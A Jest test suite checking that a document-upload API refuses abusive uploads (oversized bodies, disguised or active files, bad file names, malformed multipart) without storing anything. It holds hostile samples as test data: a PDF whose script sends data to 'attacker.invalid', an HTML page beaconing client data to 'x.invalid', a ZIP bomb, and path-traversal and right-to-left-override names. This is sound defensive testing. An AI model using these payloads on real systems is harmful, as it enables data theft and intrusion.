import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtemp, rm } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createTeam, signedIn, type SignedInBrowser } from '../support/accounts.js';
import { takeIn } from '../support/clients.js';
import { DOCUMENT_FIELDS, multipart, PDF, PNG, sendMultipart, storedFiles, tinyPdf, tinyPng, upload, uploadParts, type MultipartBody } from '../support/documents.js';
import { pollUntil } from '../support/poll.js';
import { API_MAIN, freePort, startProcess } from '../support/processes.js';
import { startTestApi, type TestApi } from '../support/test-api.js';
import { collect, docxEntries, zeros, zip } from './fixtures/generated-files.js';

const MB = 1024 * 1024;
const GB = 1024 * MB;
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

interface RawAnswer {
  readonly status: number;
  readonly body: { code?: string };
  /** Bytes of the request body written when the answer's headers arrived. */
  readonly sentBeforeAnswer: number;
  /** The largest growth of this process's RSS over its size before the upload, sampled every 10 ms. */
  readonly peakRssGrowth: number;
}

/**
 * Uploads that try to hurt: too large, disguised, active, explosive, badly named, malformed. Each
 * is answered with a 4xx (never 500), and leaves no row and no stored file behind.
 */
describe('upload abuse', () => {
  let api: TestApi;
  let directory: string;
  let caseworker: SignedInBrowser;
  let clientId: string;
  let origin: string;

  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), 'yorisoi-upload-abuse-'));
    api = await startTestApi({ env: { DOCUMENTS_DIR: directory } });
    const team = await createTeam(api);
    caseworker = await signedIn(api, { role: 'caseworker', memberOf: [team] });
    clientId = (await takeIn(caseworker, team)).id;
    // The raw uploads below need a port; supertest then uses the same one.
    await new Promise<void>((resolve) => api.server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(api.server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await api.close();
    await rm(directory, { recursive: true, force: true });
  });

  async function rowsOfClient(): Promise<{ documents: number; versions: number }> {
    const [row] = await api.dataSource.query<[{ documents: number; versions: number }]>(
      'SELECT (SELECT count(*)::int FROM document WHERE client_id = $1) AS documents, (SELECT count(*)::int FROM document_version WHERE client_id = $1) AS versions',
      [clientId],
    );
    return row;
  }

  /** Storage as it is once a refused upload's clean-up has run (it runs before the answer; a little slack for the file system). */
  async function storageSettled(expected: string[]): Promise<string[]> {
    const until = Date.now() + 2_000;
    for (;;) {
      const files = await storedFiles(directory);
      if (JSON.stringify(files) === JSON.stringify(expected) || Date.now() > until) return files;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }

  /** Sends the upload and checks the answer, and that nothing was kept. */
  async function refused(send: () => Promise<{ status: number; body: { code?: string } }>): Promise<string> {
    const files = await storedFiles(directory);
    const rows = await rowsOfClient();
    const response = await send();
    expect(await storageSettled(files)).toEqual(files);
    expect(await rowsOfClient()).toEqual(rows);
    return `${response.status} ${response.body.code}`;
  }

  const sendFile = (bytes: Buffer, name: string, type: string | null, fields: Record<string, string> = DOCUMENT_FIELDS) => () => upload(caseworker, clientId, fields, bytes, name, type);
  const sendBody = (body: MultipartBody) => () => sendMultipart(caseworker, `/api/clients/${clientId}/documents`, body);

  /**
   * An upload over a raw connection: the multipart head, then `fileBytes` of plain text made as
   * they are sent (chunked transfer encoding unless `contentLength` is given), then the tail.
   * Stops sending as soon as the answer arrives, as a browser does.
   */
  function rawUpload(fileBytes: number, options: { contentLength?: number } = {}): Promise<RawAnswer> {
    const envelope = multipart(uploadParts(DOCUMENT_FIELDS, Buffer.from('__FILE__'), 'statement.txt', 'text/plain'));
    const [head, tail] = envelope.body.toString('latin1').split('__FILE__').map((part) => Buffer.from(part, 'latin1'));
    const chunk = Buffer.alloc(MB, 'a');
    const baseline = process.memoryUsage().rss;
    let peak = baseline;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 10);
    return new Promise<RawAnswer>((resolve, reject) => {
      const headers: Record<string, string> = {
        'Content-Type': envelope.contentType,
        Cookie: `yorisoi_session=${caseworker.cookie()}`,
        'X-CSRF-Token': caseworker.csrfToken,
      };
      if (options.contentLength !== undefined) headers['Content-Length'] = String(options.contentLength);
      const request = http.request(`${origin}/api/clients/${clientId}/documents`, { method: 'POST', headers });
      let sent = 0;
      let answered = false;
      let settled = false;
      const finish = (outcome: { answer: RawAnswer } | { error: Error }) => {
        if (settled) return;
        settled = true;
        clearInterval(sampler);
        request.destroy();
        if ('error' in outcome) reject(new Error(`no answer: the connection failed after ${sent} bytes were sent (${outcome.error.message})`));
        else resolve(outcome.answer);
      };
      request.on('response', (response) => {
        answered = true;
        const sentBeforeAnswer = sent;
        const chunks: Buffer[] = [];
        response.on('data', (data: Buffer) => chunks.push(data));
        response.on('end', () => {
          const text = Buffer.concat(chunks).toString('utf8');
          let body: { code?: string };
          try {
            body = JSON.parse(text) as { code?: string };
          } catch {
            body = { code: `(not JSON: ${text.slice(0, 80)})` };
          }
          finish({ answer: { status: response.statusCode ?? 0, body, sentBeforeAnswer, peakRssGrowth: peak - baseline } });
        });
        response.on('error', (error) => finish({ error }));
      });
      // The server may close the connection once it has answered: not an error of the test.
      request.on('error', (error) => {
        if (!answered) finish({ error });
      });
      const write = (data: Buffer): Promise<void> =>
        new Promise((done) => {
          sent += data.length;
          if (request.write(data)) done();
          else request.once('drain', done);
        });
      void (async () => {
        await write(head);
        if (options.contentLength !== undefined) return; // Only the head: the length alone must be refused.
        for (let left = fileBytes; left > 0 && !answered && !request.destroyed; left -= chunk.length) {
          await write(left >= chunk.length ? chunk : chunk.subarray(0, left));
        }
        if (!answered && !request.destroyed) request.end(tail);
      })();
    });
  }

  it('refuses a 2 GB upload with 413 while it arrives, with flat memory, keeping nothing', async () => {
    const limit = api.config.documents.maxUploadBytes;
    const files = await storedFiles(directory);
    const rows = await rowsOfClient();
    const answer = await rawUpload(2 * GB);
    expect({ status: answer.status, code: answer.body.code }).toEqual({ status: 413, code: 'PAYLOAD_TOO_LARGE' });
    // Answered at the limit, long before the 2 GB were sent.
    expect(answer.sentBeforeAnswer).toBeGreaterThan(limit);
    expect(answer.sentBeforeAnswer).toBeLessThan(limit + 100 * MB);
    expect(answer.peakRssGrowth).toBeLessThan(100 * MB);
    expect(await storageSettled(files)).toEqual(files);
    expect(await rowsOfClient()).toEqual(rows);
  }, 60_000);

  it('refuses at once an upload whose Content-Length is over the limit, before its body is sent', async () => {
    const files = await storedFiles(directory);
    const answer = await rawUpload(0, { contentLength: 2 * GB });
    expect({ status: answer.status, code: answer.body.code }).toEqual({ status: 413, code: 'PAYLOAD_TOO_LARGE' });
    expect(answer.sentBeforeAnswer).toBeLessThan(64 * 1024);
    expect(await storedFiles(directory)).toEqual(files);
  });

  it('refuses active or disguised content', async () => {
    // A PDF that runs JavaScript when opened, and whose bytes are also a script for a browser.
    const polyglot = Buffer.from(
      [
        '%PDF-1.7',
        '/*<script>alert(document.cookie)</script>*/',
        '1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>> endobj',
        '2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj',
        '5 0 obj <</S/JavaScript/JS(app.launchURL("http://attacker.invalid/"+this.info.Title))>> endobj',
        'trailer <</Root 1 0 R>>',
        '%%EOF',
        '',
      ].join('\n'),
      'latin1',
    );
    const svg = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>\n');
    const html = Buffer.from('<!DOCTYPE html>\n<html><body><script>fetch("/api/clients").then(r=>r.text()).then(t=>navigator.sendBeacon("//x.invalid",t))</script></body></html>\n');
    // A DOCX whose one extra entry inflates from a few kilobytes to 40 MB of zeros.
    const bomb = await collect(zip(docxEntries([{ name: 'word/media/image1.bin', content: () => zeros(40 * MB) }])));
    expect(bomb.length).toBeLessThan(MB);

    const outcomes = {
      'PDF/JS polyglot': await refused(sendFile(polyglot, 'statement.pdf', PDF)),
      'SVG with script': await refused(sendFile(svg, 'photo.svg', 'image/svg+xml')),
      'HTML named .pdf': await refused(sendFile(html, 'warrant.pdf', PDF)),
      'ZIP bomb named .docx': await refused(sendFile(bomb, 'statement.docx', DOCX)),
      'PNG declared as PDF': await refused(sendFile(tinyPng(), 'scan.pdf', PDF)),
      'PDF declared as PNG': await refused(sendFile(tinyPdf('Declared wrong'), 'scan.png', PNG)),
    };
    expect(outcomes).toEqual({
      'PDF/JS polyglot': '422 FILE_CONTENT_REFUSED',
      'SVG with script': '415 FILE_TYPE_NOT_ALLOWED',
      'HTML named .pdf': '415 FILE_TYPE_NOT_ALLOWED',
      'ZIP bomb named .docx': '422 FILE_CONTENT_REFUSED',
      'PNG declared as PDF': '415 FILE_TYPE_MISMATCH',
      'PDF declared as PNG': '415 FILE_TYPE_MISMATCH',
    });
  });

  it('refuses file names that are paths or hide what they are', async () => {
    const bytes = tinyPdf('Named');
    const outcomes = {
      'path traversal': await refused(sendFile(bytes, '../../etc/passwd', PDF)),
      'Windows path': await refused(sendFile(bytes, '..\\..\\Windows\\win.ini', PDF)),
      NUL: await refused(sendFile(bytes, 'statement.pdf\u0000.exe', PDF)),
      'NUL, percent-encoded (RFC 5987)': await refused(
        sendBody(
          multipart([
            ...Object.entries(DOCUMENT_FIELDS).map(([name, value]) => ({ name, value })),
            { name: 'file', value: bytes, type: PDF, fileName: '', disposition: `form-data; name="file"; filename*=UTF-8''statement.pdf%00.exe` },
          ]),
        ),
      ),
      'right-to-left override, percent-encoded': await refused(
        sendBody(
          multipart([
            ...Object.entries(DOCUMENT_FIELDS).map(([name, value]) => ({ name, value })),
            { name: 'file', value: bytes, type: PDF, fileName: '', disposition: `form-data; name="file"; filename*=UTF-8''statement%E2%80%AEfdp.exe` },
          ]),
        ),
      ),
      'right-to-left override': await refused(sendFile(bytes, 'statement\u202Efdp.exe', PDF)),
    };
    expect(outcomes).toEqual({
      'path traversal': '400 FILE_NAME_INVALID',
      'Windows path': '400 FILE_NAME_INVALID',
      // A raw NUL breaks the part's header itself: the multipart parser refuses the request.
      NUL: '400 VALIDATION_FAILED',
      'NUL, percent-encoded (RFC 5987)': '400 FILE_NAME_INVALID',
      'right-to-left override': '400 FILE_NAME_INVALID',
      'right-to-left override, percent-encoded': '400 FILE_NAME_INVALID',
    });
  });

  it('refuses malformed uploads: empty file, two files, not multipart, fields after the file, a missing title', async () => {
    const pdf = tinyPdf('Malformed');
    const fieldParts = Object.entries(DOCUMENT_FIELDS).map(([name, value]) => ({ name, value }));
    const { title: _title, ...withoutTitle } = DOCUMENT_FIELDS;
    const outcomes = {
      'empty file': await refused(sendFile(Buffer.alloc(0), 'empty.pdf', PDF)),
      'two files': await refused(
        sendBody(
          multipart([...fieldParts, { name: 'file', value: pdf, fileName: 'one.pdf', type: PDF }, { name: 'file', value: tinyPdf('Second'), fileName: 'two.pdf', type: PDF }]),
        ),
      ),
      'a second file under another name': await refused(
        sendBody(multipart([...fieldParts, { name: 'file', value: pdf, fileName: 'one.pdf', type: PDF }, { name: 'extra', value: pdf, fileName: 'two.pdf', type: PDF }])),
      ),
      'JSON body': await refused(() => caseworker.post(`/api/clients/${clientId}/documents`, { ...DOCUMENT_FIELDS, file: pdf.toString('base64') })),
      'fields after the file': await refused(sendBody(multipart([{ name: 'file', value: pdf, fileName: 'scan.pdf', type: PDF }, ...fieldParts]))),
      'title after the file': await refused(
        sendBody(multipart([...fieldParts.filter((p) => p.name !== 'title'), { name: 'file', value: pdf, fileName: 'scan.pdf', type: PDF }, { name: 'title', value: 'Late title' }])),
      ),
      'missing title': await refused(sendFile(pdf, 'scan.pdf', PDF, withoutTitle)),
      'no file part': await refused(sendBody(multipart(fieldParts))),
      'broken multipart': await refused(() =>
        caseworker.agent
          .post(`/api/clients/${clientId}/documents`)
          .set('X-CSRF-Token', caseworker.csrfToken)
          .set('Content-Type', 'multipart/form-data; boundary=nothing-like-the-body')
          .send(Buffer.from('--something-else\r\nContent-Disposition: form-data; name="title"\r\n\r\nx\r\n')),
      ),
    };
    expect(outcomes).toEqual({
      'empty file': '400 FILE_EMPTY',
      'two files': '400 VALIDATION_FAILED',
      'a second file under another name': '400 VALIDATION_FAILED',
      'JSON body': '415 UNSUPPORTED_MEDIA_TYPE',
      'fields after the file': '400 VALIDATION_FAILED',
      'title after the file': '400 VALIDATION_FAILED',
      'missing title': '400 VALIDATION_FAILED',
      'no file part': '400 VALIDATION_FAILED',
      'broken multipart': '400 VALIDATION_FAILED',
    });
  });

  it('survives malformed uploads in a real api process (a refused part must not crash it)', async () => {
    const port = await freePort();
    const server = startProcess(API_MAIN, { PORT: String(port), DOCUMENTS_DIR: directory, AUTH_MFA_REQUIRED_ROLES: '', LOG_LEVEL: 'warn' });
    try {
      const base = `http://127.0.0.1:${port}`;
      await pollUntil(async () => (await fetch(`${base}/health/ready`).catch(() => null))?.status === 200, 30_000, 200);
      const login = await fetch(`${base}/api/auth/login`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ email: caseworker.user.email, password: caseworker.user.password }),
      });
      expect(login.status).toBe(200);
      const cookie = login.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ');
      const { csrfToken } = (await login.json()) as { csrfToken: string };
      const pdf = tinyPdf('Process');
      const fields = Object.entries(DOCUMENT_FIELDS).map(([name, value]) => ({ name, value }));
      const bodies = [
        multipart([...fields, { name: 'file', value: pdf, fileName: 'one.pdf', type: PDF }, { name: 'file', value: pdf, fileName: 'two.pdf', type: PDF }]),
        multipart([{ name: 'file', value: pdf, fileName: 'scan.pdf', type: PDF }, ...fields]),
      ];
      const statuses: number[] = [];
      for (const body of bodies) {
        const response = await fetch(`${base}/api/clients/${clientId}/documents`, {
          method: 'POST',
          headers: { 'Content-Type': body.contentType, Cookie: cookie, 'X-CSRF-Token': csrfToken },
          body: body.body,
        }).catch((error: unknown) => ({ status: `failed: ${String(error)}` }));
        statuses.push(response.status as number);
      }
      await new Promise((resolve) => setTimeout(resolve, 500));
      const alive = await fetch(`${base}/health/live`).then(
        (r) => r.status,
        () => 'down',
      );
      // On failure, the process's last words say why it stopped.
      const crash = server.child.exitCode === null ? null : server.output().trim().split('\n').slice(-14).join('\n');
      expect({ statuses, alive, exitCode: server.child.exitCode, crash }).toEqual({ statuses: [400, 400], alive: 200, exitCode: null, crash: null });
    } finally {
      server.child.kill('SIGKILL');
      await server.exited;
    }
  }, 60_000);

  it('still takes a good upload afterwards (the refusals above are not a broken route)', async () => {
    const response = await upload(caseworker, clientId, DOCUMENT_FIELDS, tinyPdf('After the abuse'), 'passport.pdf', PDF);
    expect(response.status).toBe(201);
    expect(await rowsOfClient()).toEqual({ documents: 1, versions: 1 });
    expect(await storedFiles(directory)).toHaveLength(1);
  });
});
